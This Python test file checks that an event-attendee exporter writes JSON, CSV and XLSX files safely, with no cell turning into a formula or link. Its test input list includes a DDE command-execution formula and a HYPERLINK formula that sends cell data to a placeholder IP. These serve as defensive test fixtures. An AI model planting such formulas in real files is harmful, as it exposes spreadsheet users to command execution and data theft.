"""How attendees are written: whatever they hold comes back out of the file, and no spreadsheet obeys it."""

import csv
import io
import json
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import msgspec
import pytest
import python_calamine

from turnout.changes.attendee_view import SHOWN_FIELDS, AttendeeView
from turnout.downstream.formats import FORMATS
from turnout.downstream.formats.columns import Columns, CustomColumn
from turnout.downstream.formats.workbook import CUT, MAX_CELL_UNITS

NAUGHTY = [
    "=1+1",
    "+1-1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "+49 170 1234567",
    "-",
    "'=1",
    "''",
    "＝1+1",
    "a,b;c\td",
    'say "hello"',
    "one\ntwo\r\nthree\rfour",
    "مرحبا \u202eabc",
    "\u200b\ufeff",
    "👩‍👩‍👧‍👦 Ł ß ﷽",
    "_x0041_",
    "\x01\x1f\x7f\x85\ufffe\uffff",
    "<r><t>&amp;</t></r>",
    "&lt;b&gt;",
    "0001",
    "1e5",
    "2026-01-02",
    "TRUE",
    "NULL",
    "https://example.com/x",
    "[not a list]",
    '["like a list"]',
    '\'["like one"]',
]
COLUMNS = Columns(
    has_email=True, fields=SHOWN_FIELDS, custom_fields=(CustomColumn("Note", None),), time_zone="Europe/Berlin"
)


def make_view(note: str | list[str] = "", **given: Any) -> AttendeeView:
    profile = dict.fromkeys(SHOWN_FIELDS) | given.pop("profile", {})
    values: dict[str, Any] = {
        "id": "att_1",
        "email": "a@example.com",
        "status": "attending",
        "profile": profile,
        "custom_fields": {"Note": note} if note else {},
        "groups": [],
        "unknown_fields": {},
        "pinned": [],
        "aliases": [],
        "created_at": "2026-07-01T22:30:00.250000Z",
        "updated_at": "2026-12-01T23:30:00.000000Z",
    }
    return AttendeeView(**values | given)


def write(name: str, *views: AttendeeView, columns: Columns = COLUMNS, scratch: Path | None = None) -> bytes:
    file = io.BytesIO()
    writer = FORMATS[name].open(file, columns, sequence=17, scratch=scratch)
    for one in views:
        writer.write(one)
    writer.close()
    return file.getvalue()


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> list[list[Any]]:
    book = python_calamine.load_workbook(io.BytesIO(content))
    return book.get_sheet_by_index(0).to_python()


# JSON


def test_json_is_the_document_that_the_list_gives() -> None:
    content = json.loads(write("json", make_view("=1", groups=["A"]), make_view()))
    assert (content["next"], content["sequence"], len(content["attendees"])) == (None, 17, 2)
    assert content["attendees"][0]["customFields"] == {"Note": "=1"}
    assert json.loads(write("json")) == {"attendees": [], "next": None, "sequence": 17}


def test_ndjson_is_an_attendee_a_line() -> None:
    lines = write("ndjson", *(make_view(text) for text in NAUGHTY)).decode().removesuffix("\n").split("\n")
    assert [json.loads(line)["customFields"]["Note"] for line in lines] == NAUGHTY
    assert write("ndjson") == b""


# CSV


def test_csv_is_rfc_4180_behind_a_mark_that_excel_needs() -> None:
    content = write("csv", make_view("a\nb", profile={"title": 'The "boss"'}))
    assert content.startswith(b"\xef\xbb\xbfid,profile.email,status,profile.thirdPartyId,")
    assert content.count(b"\r\n") == 2
    assert b',"The ""boss""",' in content


@pytest.mark.parametrize("text", NAUGHTY)
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    (row,) = read_csv(write("csv", make_view(text, profile={"phone": text}, groups=[text], aliases=[text])))
    for cell in row.values():
        assert cell[:1] not in tuple("=+-@＝＋－＠\t\r\n"), cell
    assert row["profile.phone"].lstrip("'") == text.lstrip("'")


def test_columns_come_in_the_order_that_is_promised_and_lists_in_one_cell() -> None:
    (row,) = read_csv(write("csv", make_view(["a", "b"], groups=['G "1"', "G,2"], aliases=["old@example.com"])))
    assert list(row) == [
        "id",
        "profile.email",
        "status",
        *(f"profile.{field}" for field in SHOWN_FIELDS),
        "eventInfo.groups.groupNames",
        "profile.customFields.Note",
        "aliases",
        "createdAt",
        "updatedAt",
    ]
    assert json.loads(row["eventInfo.groups.groupNames"]) == ['G "1"', "G,2"]
    assert json.loads(row["profile.customFields.Note"]) == ["a", "b"]
    assert row["createdAt"] == "2026-07-01T22:30:00.250000Z"


def test_only_what_the_reader_may_see_has_a_column() -> None:
    columns = Columns(has_email=False, fields=("title",), custom_fields=(), time_zone="UTC")
    view = msgspec.structs.replace(make_view("secret", email=None), profile={"title": "CTO"})
    content = write("csv", view, columns=columns)
    (row,) = read_csv(content)
    assert list(row) == ["id", "status", "profile.title", "eventInfo.groups.groupNames", "createdAt", "updatedAt"]
    assert b"secret" not in content


# XLSX


@pytest.mark.parametrize("in_folder", [True, False])
def test_xlsx_holds_every_text_as_it_is(in_folder: bool, tmp_path: Path) -> None:
    content = write("xlsx", *(make_view(text) for text in NAUGHTY), scratch=tmp_path if in_folder else None)
    at = COLUMNS.list_names().index("profile.customFields.Note")
    header, *rows = read_xlsx(content)
    assert header == COLUMNS.list_names()
    kept = [row[at] for row in rows]
    expected = [
        {"<r><t>&amp;</t></r>": "<r><t>&amp;</t></r> ", '["like a list"]': '\'["like a list"]'}.get(text, text)
        for text in NAUGHTY
    ]
    expected[-1] = "''[\"like one\"]"
    odd = NAUGHTY.index("\x01\x1f\x7f\x85\ufffe\uffff")
    assert [text for one, text in enumerate(kept) if one != odd] == [
        text for one, text in enumerate(expected) if one != odd
    ]
    assert list(tmp_path.iterdir()) == []


def test_nothing_in_an_xlsx_is_a_formula_or_a_link() -> None:
    with zipfile.ZipFile(io.BytesIO(write("xlsx", *(make_view(text) for text in NAUGHTY)))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"hyperlink" not in sheet
        # What begins like one stays a text when somebody edits the cell.
        assert b'quotePrefix="1"' in book.read("xl/styles.xml")


def test_times_in_an_xlsx_are_times_on_the_event_s_clock() -> None:
    _, row = read_xlsx(write("xlsx", make_view()))
    assert row[-2:] == [datetime(2026, 7, 2, 0, 30, 0, 250000), datetime(2026, 12, 2, 0, 30)]  # noqa: DTZ001


def test_the_header_of_an_xlsx_stays_and_filters() -> None:
    with zipfile.ZipFile(io.BytesIO(write("xlsx", make_view()))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert 'state="frozen"' in sheet
    assert "<autoFilter" in sheet


@pytest.mark.parametrize("sign", ["x", "👩"])
def test_a_cell_that_holds_no_more_says_so(sign: str) -> None:
    _, row = read_xlsx(write("xlsx", make_view(profile={"biography": sign * 40_000})))
    text = row[COLUMNS.list_names().index("profile.biography")]
    assert text.endswith(CUT)
    assert MAX_CELL_UNITS - 2 <= len(text.encode("utf-16-le")) // 2 <= MAX_CELL_UNITS
    _, row = read_xlsx(write("xlsx", make_view(profile={"biography": "x" * MAX_CELL_UNITS})))
    assert row[COLUMNS.list_names().index("profile.biography")] == "x" * MAX_CELL_UNITS


def test_an_xlsx_is_written_into_a_file_that_only_takes() -> None:
    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.content = bytearray()

        def writable(self) -> bool:
            return True

        def seekable(self) -> bool:
            return False

        def write(self, piece: Any) -> int:
            self.content += piece
            return len(piece)

    pipe = Pipe()
    file: Any = pipe
    FORMATS["xlsx"].write_all(file, COLUMNS, [make_view("x")])
    assert len(read_xlsx(bytes(pipe.content))) == 2
